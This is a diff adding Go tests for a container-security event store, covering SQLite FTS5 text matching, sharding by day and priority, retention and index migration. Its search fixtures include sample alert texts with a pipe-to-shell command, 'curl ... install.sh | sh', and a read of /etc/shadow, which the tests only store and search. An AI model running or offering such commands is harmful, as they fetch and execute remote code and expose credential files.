@@ -1,0 +1,291 @@
+package sqlitestore
+
+import (
+	"context"
+	"database/sql"
+	"fmt"
+	"math"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/containersec/container-security/pkg/events"
+)
+
+// The Go matcher of the unindexed tail answers as FTS5's unicode61 does on the same texts (the real FTS5 of
+// modernc.org/sqlite is the oracle).
+func TestTextMatcherAgreesWithFTS5(t *testing.T) {
+	db, err := sql.Open("sqlite", ":memory:")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	db.SetMaxOpenConns(1)
+	if _, err := db.Exec(`CREATE VIRTUAL TABLE x USING fts5 (output)`); err != nil {
+		t.Fatal(err)
+	}
+	texts := []string{
+		"10:00:01.123456789: Notice Terminal shell in container | user=root command=cat /etc/shadow",
+		"Read sensitive file untrusted (file=/etc/shadow-) k8s_pod_name=web-7c9d8f6b5-x2x k8s_ns_name=shop",
+		"Café crème: ÉVIL naïve façade Ünïcödé ñandú",
+		"curl -s http://198.51.100.7/install.sh | sh",
+		"under_score dotted.name CamelCase ALLCAPS x86_64 42 3.14",
+		"e\u0301tude (combining accent) ﬁle ligature Straße İstanbul",
+		"日本語 テキスト 中文 한국어",
+		"shadowed shadows shadow sha",
+		"",
+	}
+	for i, tx := range texts {
+		if _, err := db.Exec(`INSERT INTO x (rowid, output) VALUES (?, ?)`, i, tx); err != nil {
+			t.Fatal(err)
+		}
+	}
+	queries := []string{"shadow", "shad", "SHADOW", "etc shadow", "etc/shad", "cat /etc/sh", "terminal shell", "shell terminal",
+		"cafe", "CRÈME", "evil naive", "unicode", "nandu", "web-7c9", "198.51", "install.sh", "under_score", "dotted.na",
+		"camelcase", "x86", "3.14", "etude", "file", "strasse", "straße", "istanbul", "日本語", "テキ", "한국",
+		"sha", "s", "7", "---", `"`, "", "NEAR(a b) OR *", "shadow-", "k8s_ns_name=shop"}
+	for _, q := range queries {
+		want := map[int]bool{}
+		if m := textQuery(q); m != "" {
+			rows, err := db.Query(`SELECT rowid FROM x WHERE x MATCH ?`, "output : "+m)
+			if err != nil {
+				t.Fatalf("%q: %v", q, err)
+			}
+			for rows.Next() {
+				var id int
+				_ = rows.Scan(&id)
+				want[id] = true
+			}
+			rows.Close()
+		}
+		m := newTextMatcher(q)
+		for i, tx := range texts {
+			if got := strings.TrimSpace(q) != "" && m.match(tx); got != want[i] {
+				t.Errorf("%q on %q: matcher %v, FTS5 %v (words %q)", q, tx, got, want[i], ftsWords(tx))
+			}
+		}
+	}
+}
+
+// While the FTS writer cannot write (another connection holds the index file's write lock), filtered and
+// free-text queries still find the acknowledged events: from the tail, not by waiting for the index.
+func TestQueriesAnswerTheUnindexedTail(t *testing.T) {
+	s := openTest(t, Config{})
+	ingest(t, s, ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1", "shell"))
+	lock, err := sql.Open("sqlite", FTSPath(s.Path()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer lock.Close()
+	lock.SetMaxOpenConns(1)
+	conn, err := lock.Conn(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := conn.ExecContext(context.Background(), `BEGIN IMMEDIATE`); err != nil {
+		t.Fatal(err)
+	}
+	locked := true
+	defer func() {
+		if locked {
+			_, _ = conn.ExecContext(context.Background(), `ROLLBACK`)
+		}
+		conn.Close()
+	}()
+	ingest(t, s,
+		ev(t, 2, "Warning", "Read sensitive file untrusted", "shop", "web-2", "filesystem"),
+		ev(t, 3, "Critical", "Terminal shell in container", "kube-system", "dns-1", "shell"))
+	if s.indexedIns.Load() >= s.committedIns.Load() {
+		t.Fatal("the test needs events the index does not hold yet")
+	}
+	from, to := allRange()
+	crit := events.Critical
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second) // waiting for the index would take 5 s
+	defer cancel()
+	for name, c := range map[string]struct {
+		f    events.Filters
+		want string
+	}{
+		"text":          {events.Filters{Text: "terminal shel"}, "id-3,id-1"},
+		"namespace":     {events.Filters{Namespaces: []string{"shop"}}, "id-2,id-1"},
+		"priority":      {events.Filters{MinPriority: &crit}, "id-3,id-1"},
+		"tag and text":  {events.Filters{Tags: []string{"filesystem"}, Text: "sensitive"}, "id-2"},
+		"pod, no match": {events.Filters{Pods: []string{"web-1"}, Text: "sensitive"}, ""},
+	} {
+		p, err := s.List(ctx, events.ListRequest{From: from, To: to, Filters: c.f})
+		if err != nil || ids(p) != c.want {
+			t.Errorf("%s: %q %v, want %q", name, ids(p), err, c.want)
+		}
+	}
+	c, err := s.Count(ctx, events.CountRequest{From: from, To: to, GroupBy: events.DimPriority, Bucket: time.Hour, Filters: events.Filters{Text: "terminal"}})
+	if err != nil || len(c.Series) != 1 || c.Series[0].Value != "Critical" || slices.Max(c.Series[0].Counts) != 2 {
+		t.Fatalf("count from the index and the tail: %+v %v", c, err)
+	}
+	if e, err := s.Get(ctx, "id-2"); err != nil || e.Rule != "Read sensitive file untrusted" {
+		t.Fatalf("get from the tail: %v %v", e, err)
+	}
+	if ctx.Err() != nil {
+		t.Fatal("a query waited for the index")
+	}
+	_, _ = conn.ExecContext(context.Background(), `ROLLBACK`)
+	locked = false
+	s.waitIndexed(context.Background())
+	if n, err := ftsEntriesOf(s, "id-3"); err != nil || n != 1 {
+		t.Fatalf("indexed once the lock went: %d %v", n, err)
+	}
+}
+
+// Counts by priority with free text come from each shard's keys alone; they equal counting the listed events by
+// their times, also for keys moved past a bucket's start by events sharing a nanosecond, and at the range's ends.
+func TestFreeTextCountFromShardsEqualsEvents(t *testing.T) {
+	s := openTest(t, Config{})
+	var evs []events.Event
+	prios := []string{"Critical", "Warning", "Notice", "Error"}
+	for i := range 400 {
+		e := ev(t, i, prios[i%4], "Rule", "ns", "pod")
+		e.Time = t0.Add(time.Duration(i/4) * time.Minute) // four events on each minute's first nanosecond
+		if i%5 == 0 {
+			e.Time = e.Time.Add(-time.Nanosecond) // and some one before it: their keys move into the next minute
+		}
+		if i%7 == 0 {
+			e.Output = "nothing to find here"
+		}
+		evs = append(evs, e)
+	}
+	ingest(t, s, evs...)
+	s.waitIndexed(context.Background())
+	for _, r := range []struct{ from, to time.Time }{
+		{t0.Add(-time.Hour), t0.Add(3 * time.Hour)},
+		{t0.Add(10 * time.Minute), t0.Add(50 * time.Minute)},                    // ends on events' times
+		{t0.Add(10*time.Minute - time.Nanosecond), t0.Add(50*time.Minute - 1)}, // ends between moved keys
+	} {
+		for _, bucket := range []time.Duration{time.Minute, 7 * time.Minute, time.Second} {
+			f := events.Filters{Text: "curl"}
+			c, err := s.Count(context.Background(), events.CountRequest{From: r.from, To: r.to, GroupBy: events.DimPriority, Bucket: bucket, Filters: f})
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := map[string]map[int64]int64{}
+			start := c.Start.UnixNano()
+			for _, e := range evs {
+				if e.Time.Before(r.from) || e.Time.After(r.to) || !strings.Contains(e.Output, "curl") {
+					continue
+				}
+				p := e.Priority.String()
+				if want[p] == nil {
+					want[p] = map[int64]int64{}
+				}
+				want[p][(e.Time.UnixNano()-start)/int64(bucket)]++
+			}
+			got := map[string]map[int64]int64{}
+			for _, se := range c.Series {
+				for b, n := range se.Counts {
+					if n > 0 {
+						if got[se.Value] == nil {
+							got[se.Value] = map[int64]int64{}
+						}
+						got[se.Value][int64(b)] = n
+					}
+				}
+			}
+			if fmt.Sprint(got) != fmt.Sprint(want) {
+				t.Fatalf("%s..%s by %s: %v, want %v", r.from, r.to, bucket, got, want)
+			}
+		}
+	}
+}
+
+// Events of several days live in one table per day and priority; retention drops a day's tables with its last
+// event, and a query over both days merges them newest first.
+func TestShardsPerDayAndPriorityGoWithRetention(t *testing.T) {
+	now := t0.Add(10 * 24 * time.Hour)
+	s := openTest(t, Config{RetentionDays: 7, Now: func() time.Time { return now }})
+	old1, old2 := ev(t, 1, "Critical", "A", "shop", "web-1"), ev(t, 2, "Notice", "A", "shop", "web-1")
+	fresh1, fresh2 := ev(t, 3, "Critical", "A", "shop", "web-1"), ev(t, 4, "Warning", "A", "shop", "web-1")
+	fresh1.Time, fresh2.Time = now.Add(-25*time.Hour), now.Add(-time.Hour)
+	ingest(t, s, old1, old2, fresh1, fresh2)
+	s.waitIndexed(context.Background())
+	tables := func() []string {
+		tx, err := s.r.Begin()
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer tx.Rollback() //nolint:errcheck
+		shards, err := listShards(context.Background(), tx, "fts", math.MinInt64, math.MaxInt64, int(events.Debug))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out []string
+		for _, sh := range shards {
+			out = append(out, sh.table())
+		}
+		return out
+	}
+	day := func(tm time.Time) string { return fmt.Sprint(tm.UnixNano() / shardPeriod) }
+	want := []string{"events_fts_d" + day(fresh2.Time) + "_p4", "events_fts_d" + day(fresh1.Time) + "_p2", "events_fts_d" + day(old1.Time) + "_p2", "events_fts_d" + day(old1.Time) + "_p5"}
+	if got := tables(); fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Fatalf("shards %v, want %v", got, want)
+	}
+	p, err := s.List(context.Background(), events.ListRequest{From: t0.Add(-time.Hour), To: now, Filters: events.Filters{Namespaces: []string{"shop"}}, Limit: 3})
+	if err != nil || ids(p) != "id-4,id-3,id-2" || p.NextCursor == "" {
+		t.Fatalf("across days: %q %v", ids(p), err)
+	}
+	p, err = s.List(context.Background(), events.ListRequest{From: t0.Add(-time.Hour), To: now, Filters: events.Filters{Namespaces: []string{"shop"}}, Limit: 3, Cursor: p.NextCursor})
+	if err != nil || ids(p) != "id-1" || p.NextCursor != "" {
+		t.Fatalf("next page: %q %v", ids(p), err)
+	}
+	if n := s.PruneNow(); n != 2 {
+		t.Fatalf("pruned %d", n)
+	}
+	if got := tables(); fmt.Sprint(got) != fmt.Sprint(want[:2]) {
+		t.Fatalf("after retention %v, want %v", got, want[:2])
+	}
+	if err := ftsIntegrityCheck(s); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// A store whose index was written in the layout before shards (one table events_fts, made by the code of then)
+// is opened: the old table goes and every event is indexed again, found by free text and filters.
+func TestOpensIndexOfTheSingleTableLayout(t *testing.T) {
+	path := t.TempDir() + "/events.db"
+	s := openTest(t, Config{Path: path})
+	ingest(t, s, ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1"), ev(t, 2, "Warning", "Read sensitive file", "dev", "api-1"))
+	if err := s.Close(); err != nil {
+		t.Fatal(err)
+	}
+	// The index file as the previous layout wrote it (fts.go before shards): its schema, and fts_ins at the last event.
+	old, err := sql.Open("sqlite", FTSPath(path))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := old.Exec(`DROP TABLE IF EXISTS "events_fts_d` + fmt.Sprint(t0.UnixNano()/shardPeriod) + `_p2";
+		DROP TABLE IF EXISTS "events_fts_d` + fmt.Sprint(t0.UnixNano()/shardPeriod) + `_p4";
+		CREATE VIRTUAL TABLE events_fts USING fts5 (output, facets, content='', contentless_delete=1);
+		INSERT INTO events_fts (rowid, output, facets) SELECT 1, 'stale', 'stale'`); err != nil {
+		t.Fatal(err)
+	}
+	old.Close()
+	var logs []string
+	s2 := openTest(t, Config{Path: path, Logf: func(msg string, _ ...any) { logs = append(logs, msg) }})
+	var n int
+	if err := s2.r.QueryRow(`SELECT count(*) FROM fts.sqlite_master WHERE name = 'events_fts'`).Scan(&n); err != nil || n != 0 {
+		t.Fatalf("old table left: %d %v", n, err)
+	}
+	from, to := allRange()
+	p, err := s2.List(context.Background(), events.ListRequest{From: from, To: to, Filters: events.Filters{Text: "terminal"}})
+	if err != nil || ids(p) != "id-1" {
+		t.Fatalf("free text after the rebuild: %q %v", ids(p), err)
+	}
+	p, err = s2.List(context.Background(), events.ListRequest{From: from, To: to, Filters: events.Filters{Namespaces: []string{"dev"}}})
+	if err != nil || ids(p) != "id-2" {
+		t.Fatalf("filter after the rebuild: %q %v", ids(p), err)
+	}
+	if !slices.ContainsFunc(logs, func(m string) bool { return strings.Contains(m, "builds its index") }) {
+		t.Fatalf("the rebuild is not logged: %q", logs)
+	}
+	if err := ftsIntegrityCheck(s2); err != nil {
+		t.Fatal(err)
+	}
+}
